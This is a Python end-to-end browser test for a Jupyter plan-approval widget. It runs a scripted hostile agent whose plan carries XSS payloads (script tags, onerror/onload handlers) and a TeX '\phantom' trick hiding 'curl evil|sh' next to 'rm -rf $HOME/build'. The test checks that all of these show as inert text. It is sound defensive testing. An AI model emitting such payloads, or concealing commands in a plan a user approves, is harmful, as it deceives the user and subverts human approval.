"""A real JupyterLab 4 and a real Notebook 7 in headless Chromium run the plan-mode notebook
against a hostile model.

The test starts ``jupyter lab`` or ``jupyter notebook`` on 127.0.0.1 (a token, scratch HOME,
config, data and runtime folders; tests/jupyter_ui.py) on a scratch copy of
``notebooks/02_plan_mode.ipynb`` with its outputs cleared, and puts
``tests/scripts/browser_hostile_plan.yaml`` in place of the notebook's own script: the same flow
(plan -> ExitPlanMode -> approve -> Write -> done), but the plan and the streamed replies carry
``<script>``, ``onerror``/``onload`` handlers, ``javascript:`` links, an iframe and a style
sheet, each of which would set ``window.__pwned`` and call ``alert()`` if it ran, and TeX that
must not be typeset.

Debian's Chromium headless shell (``/usr/bin/chromium-headless-shell``), driven by Playwright
for Python (no browser download), runs the cells one at a time as a user would, until the plan
card appears; it checks that the plan is rendered as Markdown and that no script ran, edits the
plan (types a line into its edit box, previews it) and clicks Approve with the mouse, sees the
mode marker come back to the resting mode and the approved work run (the file on disk, the
turn's footer), opens the control bar's Rewind files (the files listed, then cancelled), then
runs the rest of the notebook. The same checks run in both UIs. Screenshots go to ``test-
artifacts/<ui>-*.png`` (``PLAN_WIDGETS_DOCS_IMG=1`` also refreshes ``docs/img/plan-card.png``
from JupyterLab's).
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest
from jupyter_ui import (
    ARTIFACTS,
    CELL_TIMEOUT,
    UI_TIMEOUT,
    UIS,
    assert_no_errors,
    assert_no_math,
    assert_nothing_ran,
    browser,
    driver,
    jupyter_server,
    open_notebook,
    our_processes,
    record_dialogs,
    require_browser,
    run_cell,
)

from plan_widgets.agent.mode_names import MODE_TITLES

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

REPO = Path(__file__).resolve().parents[1]
NOTEBOOK = REPO / "notebooks" / "02_plan_mode.ipynb"
HOSTILE = Path(__file__).parent / "scripts" / "browser_hostile_plan.yaml"
DOCS_IMG = REPO / "docs" / "img" / "plan-card.png"
PLAN_HEADING = "Plan: add a greeting"  # the heading of the hostile script's plan
# TeX the hostile plan carries, which must show as written (never typeset: \phantom would hide
# the "curl evil|sh" on the card the user approves).
PLAN_TEX = ("rm -rf $HOME/build", "it costs $5", r"$$\phantom{;curl evil|sh;}$$")
PLAN_TEX_CODE = "cp $SRC/x /tmp"  # inside inline code
WRITTEN = "hello.py"  # the file the approved plan writes (relative to the notebook)
EDITED_LINE = "Also: typed into the edit box before approving."  # the user's edit


def _scripted_path(nb: dict[str, Any]) -> str:
    """The script the notebook's ``%%claude --scripted PATH`` cells name (exactly one)."""
    found = set()
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        found.update(re.findall(r"--scripted[ =](\S+)", src))
    assert len(found) == 1, f"the notebook should name one --scripted file, found {found}"
    return found.pop()


def _prepare(root: Path) -> Path:
    """A scratch copy of the plan-mode notebook (outputs cleared) with the hostile script."""
    assert NOTEBOOK.exists(), f"{NOTEBOOK.relative_to(REPO)} is missing"
    nb = json.loads(NOTEBOOK.read_text(encoding="utf-8"))
    assert nb.get("metadata", {}).get("kernelspec", {}).get("name"), (
        "the notebook needs metadata.kernelspec, or JupyterLab asks for a kernel"
    )
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = []
            cell["execution_count"] = None
    dest = root / NOTEBOOK.name
    dest.write_text(json.dumps(nb, indent=1), encoding="utf-8")
    script = root / _scripted_path(nb)
    script.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(HOSTILE, script)
    return dest


# -- the page ------------------------------------------------------------------------------------
def _pending_plan_card(page: Any) -> Any:
    """The plan card's Approve button, while it is still enabled, or None."""
    approve = page.locator(".pw-card-plan button.jupyter-button.widget-button:not([disabled])",
                           has_text=re.compile(r"^\s*Approve\s*$"))
    if approve.count() == 0:
        return None
    return approve.first


@pytest.mark.parametrize("ui", UIS)
def test_plan_mode_notebook_in_a_real_browser(tmp_path: Path, ui: str) -> None:
    require_browser()
    from playwright.sync_api import expect

    root = tmp_path / "root"
    root.mkdir()
    notebook = _prepare(root)
    n = len(json.loads(notebook.read_text(encoding="utf-8"))["cells"])
    ARTIFACTS.mkdir(exist_ok=True)

    def shot(where: Any, what: str, **kw: Any) -> None:
        where.screenshot(path=str(ARTIFACTS / f"{ui}-{what}.png"), **kw)

    with jupyter_server(tmp_path, root, ui) as server, driver() as pw:
        context = browser(pw, tmp_path / "chromium-profile")
        try:
            page = context.new_page()
            page.set_default_timeout(UI_TIMEOUT * 1000)
            expect.set_options(timeout=UI_TIMEOUT * 1000)
            dialogs = record_dialogs(page)
            cells = open_notebook(page, server, notebook.name, n)

            # 1. Run cells one at a time until the plan card waits for the user.
            i = 0
            approve = None
            while i < n and approve is None:
                run_cell(page, cells, i)
                i += 1
                approve = _pending_plan_card(page)
            assert approve is not None, "no plan card waited for approval"
            card = page.locator(".pw-card-plan").first

            # 2. No script ran; the plan is Markdown: a heading element, a list, inline code.
            assert_nothing_ran(page, dialogs)
            md = card.locator(".jp-RenderedMarkdown")
            expect(md.locator("h1, h2").first).to_have_text(
                re.compile(rf"^{re.escape(PLAN_HEADING)}\W*$"))  # the UIs add a ¶ anchor
            expect(md.locator("ol > li")).to_have_count(2)
            expect(md.locator("code", has_text=WRITTEN).first).to_be_visible()
            # ... and the hostile HTML in it shows as text, inert.
            expect(md).to_contain_text('<script>window.__pwned = 1; alert("pwned: plan script")')
            expect(md).to_contain_text("<img src=x onerror=")
            # ... and its TeX delimiters show as written, not as math.
            for tex in PLAN_TEX:
                expect(md).to_contain_text(tex)
            expect(md.locator("code", has_text=re.compile(rf"^{re.escape(PLAN_TEX_CODE)}$"))
                   ).to_have_count(1)
            assert_no_math(card)
            # The streamed reply (HTML split across deltas) shows as text too.
            expect(page.locator(".pw-turn").first).to_contain_text(
                "<svg onload=\"window.__pwned = 13")
            card.scroll_into_view_if_needed()
            shot(card, "plan-card")

            # 3. The mode marker says plan (confirmed by the CLI). Approve with the mouse; the
            # marker comes back to the resting mode.
            bar = page.locator(".pw-control-bar").first
            confirmed = bar.locator("span[title$='confirmed by the CLI']")
            expect(confirmed).to_have_text("mode Plan")
            tooltip = approve.get_attribute("title") or ""
            m = re.match(r"Leave plan mode into .* \((\w+)\)$", tooltip)
            assert m, f"the Approve button should say the mode it goes back to: {tooltip!r}"
            resting = m.group(1)
            # Edit the plan (issue 13): type into its edit box, preview, then approve the edit.
            card.locator("button", has_text=re.compile(r"^\s*Edit\s*$")).click()
            box = card.locator(".pw-plan-edit textarea")
            expect(box).to_have_value(re.compile(re.escape(PLAN_HEADING)))
            box.click()
            box.press("Control+End")
            box.type(f"\n{EDITED_LINE}")
            card.locator("button", has_text=re.compile(r"^\s*Preview\s*$")).click()
            expect(card.locator(".jp-RenderedMarkdown").first).to_contain_text(EDITED_LINE)
            approve.click()
            # the status line: a live card's, and the static card's once the turn has ended
            status = card.locator(".pw-card-status")
            expect(status).not_to_contain_text("Waiting for you")
            expect(status).to_contain_text("Approved", timeout=1000)
            expect(status).to_contain_text("edited by you")
            expect(confirmed).to_have_text(f"mode {MODE_TITLES[resting]}")

            # 4. The approved work runs in the same turn: the file is written, the turn ends
            # well (its footer shows ✓) and its output becomes static. The agent works in a
            # scratch folder of the notebook's (under TMPDIR), which the notebook's last cell
            # removes: look before that.
            turn = page.locator(".pw-turn.pw-static").first
            expect(turn.locator(".pw-footer", has_text="✓")).to_have_count(
                1, timeout=CELL_TIMEOUT * 1000)
            expect(turn.locator(".jupyter-widgets")).to_have_count(0)
            expect(card).to_contain_text("Approved")
            expect(turn).to_contain_text(f"{WRITTEN}")
            written = [p for d in (root, Path(server.env["TMPDIR"])) for p in d.rglob(WRITTEN)]
            assert written, "the approved plan's file was not written"
            expect(card).to_contain_text("Plan approved, edited by you")
            expect(card).to_contain_text(EDITED_LINE)
            shot(card, "plan-card-approved")
            # The turn changed files: the control bar offers Rewind files (issue 13), which
            # lists the files first; Cancel changes nothing.
            rewind = bar.locator("button", has_text=re.compile(r"Rewind files \(turn 1\)"))
            expect(rewind).to_be_visible()
            expect(turn).to_contain_text("%claude rewind 1")
            rewind.click()
            expect(bar.locator(".pw-rewind")).to_contain_text("dry run lists them")
            expect(bar.locator(".pw-rewind")).to_contain_text(WRITTEN)
            bar.locator("button", has_text=re.compile(r"^\s*Cancel\s*$")).click()
            expect(bar.locator(".pw-rewind")).to_have_count(0)  # Cancel leaves nothing
            # Seconds later (math is typeset after the Markdown is rendered): still no math, in
            # the card or in the turn (its Write tool view holds the plan's text as JSON).
            assert_no_math(turn)
            for tex in PLAN_TEX:
                expect(card).to_contain_text(tex)
            tool_pre = turn.locator("details.pw-tool pre", has_text="curl evil").first
            assert "rm -rf $HOME/build" in (tool_pre.text_content() or "")
            assert r"\\phantom{;curl evil|sh;}" in (tool_pre.text_content() or "")  # JSON
            shot(turn, "plan-turn")

            # 5. The rest of the notebook runs (its own checks of mode, file and events).
            while i < n:
                run_cell(page, cells, i)
                i += 1
            shot(page, "plan-notebook", full_page=True)
            assert_nothing_ran(page, dialogs)
            assert_no_errors(page)

            # The kernel the server started is the venv's python.
            kernels = [argv for _pid, argv in our_processes(server.env["HOME"])
                       if any("ipykernel_launcher" in a for a in argv)]
            assert kernels, "no kernel process found"
            # (its bin folder: the venv's python may be started as python or python3)
            assert all(Path(a[0]).parent == Path(sys.executable).parent for a in kernels), \
                kernels
        except BaseException:
            with contextlib.suppress(Exception):
                shot(page, "browser-failure", full_page=True)
            raise
        finally:
            context.close()

    if ui == "lab" and os.environ.get("PLAN_WIDGETS_DOCS_IMG") == "1":
        DOCS_IMG.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(ARTIFACTS / f"{ui}-plan-card.png", DOCS_IMG)
